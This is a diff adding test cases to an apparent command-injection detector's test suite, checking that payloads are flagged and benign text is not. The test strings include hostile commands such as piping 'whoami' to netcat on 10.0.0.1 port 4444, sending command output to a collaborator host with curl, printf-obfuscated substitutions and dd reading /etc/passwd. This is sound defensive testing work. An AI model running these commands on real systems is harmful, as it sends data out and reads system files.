@@ -1562,3 +1562,18 @@ t.test('twenty-fifth round: SQL whose blanks are pluses, tabs, line breaks or no
   t.same(json({ phone: '+33+6+12+34+56+78' }), [])
   t.same(json({ tags: 'select+union+order' }), [], 'a list of words joined by pluses')
 })
+
+t.test('twenty-fifth round: a backtick command whose output is redirected, a downloader given a URL, printf spelling a program, more probes, dd reading system files', async (t) => {
+  t.ok(q('`id` > /tmp/output.txt').includes('rce'), 'a substitution opening the value, its output redirected')
+  t.ok(q('`whoami` | nc 10.0.0.1 4444').includes('rce'))
+  t.same(q('`npm test` runs the suite'), [], 'an inline code span opening prose')
+  t.same(json({ body: '`cat` > `dog` in this ranking' }), [])
+  t.ok(q('whoami | curl https://collab.example/ -d@-').includes('rce'), 'a downloader given a URL after a pipe')
+  t.same(json({ body: 'Docs | curl | wget' }), [], 'names in a list, no URL')
+  t.ok(q("; $(printf '\\x69\\x64')").includes('rce'), "printf's escapes spelling a program")
+  t.ok(q('; $(printf id)').includes('rce'))
+  t.same(json({ code: 'int main() { int x = 1; printf("%d", x); }' }), [], "C's printf call")
+  for (const v of ['`pgrep sshd`', '`mysqladmin status`', '| nstat', '`mailq`']) t.ok(q(v).includes('rce'), v)
+  t.ok(q('dd if=/etc/passwd of=/tmp/x bs=1').includes('rce'), "dd's input a system file")
+  t.same(q('dd if=backup.img of=disk.img'), [], "dd's input a file of the user's")
+})
